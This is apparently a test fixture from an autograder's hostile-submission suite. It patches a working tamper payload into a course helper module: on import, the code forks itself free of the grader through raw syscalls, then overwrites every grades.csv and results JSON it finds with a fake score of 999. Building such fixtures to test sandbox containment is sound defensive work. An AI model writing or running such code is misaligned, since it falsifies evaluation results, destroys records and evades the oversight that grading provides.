"""A double-forked, detached process by raw syscalls that waits until grading is over, then
rewrites every grades.csv and results file it can find and keeps a canary file alive (class 5)."""
BASE = "template"
SCORE = (0, 0)
PATCHES = [("common/functions.py", "import numpy as np\n", """import os

import numpy as np

try:
    import ctypes
    _libc = ctypes.CDLL(None)
    if _libc.syscall(57) == 0:  # fork, by number
        _libc.syscall(112)  # setsid
        if _libc.syscall(57) == 0:
            import time
            time.sleep(3)
            for _ in range(40):
                for _dir, _subdirs, _files in os.walk("/"):
                    _subdirs[:] = [d for d in _subdirs if d not in ("proc", "sys", "dev", "usr")]
                    for _name in _files:
                        if _name == "grades.csv" or (_name.endswith(".json") and "results" in _dir):
                            try:
                                with open(os.path.join(_dir, _name), "w") as _out:
                                    _out.write("student,total\\nREWRITTEN-BY-STUDENT,999\\n")
                            except OSError:
                                pass
                try:
                    open("/tmp/dlfs-hostile-canary/detached_rewriter", "w").write("alive")
                except OSError:
                    pass
                time.sleep(0.5)
            os._exit(0)
        os._exit(0)
except Exception:
    pass
""")]
